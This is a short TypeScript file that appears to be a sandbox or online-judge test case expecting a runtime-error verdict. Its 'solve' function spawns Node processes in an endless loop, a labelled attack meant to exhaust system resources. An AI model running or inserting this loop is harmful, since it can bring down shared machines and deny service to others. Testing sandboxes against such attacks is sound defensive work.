// verdict: RE
declare function require(name: string): any;
declare var process: any;
declare var Buffer: any;

// attack: start processes until something breaks
const { spawnSync, execFileSync } = require('child_process') as any;
function solve(n: number): number {
    while (true) execFileSync('/usr/bin/node', ['-e', '1']);
}
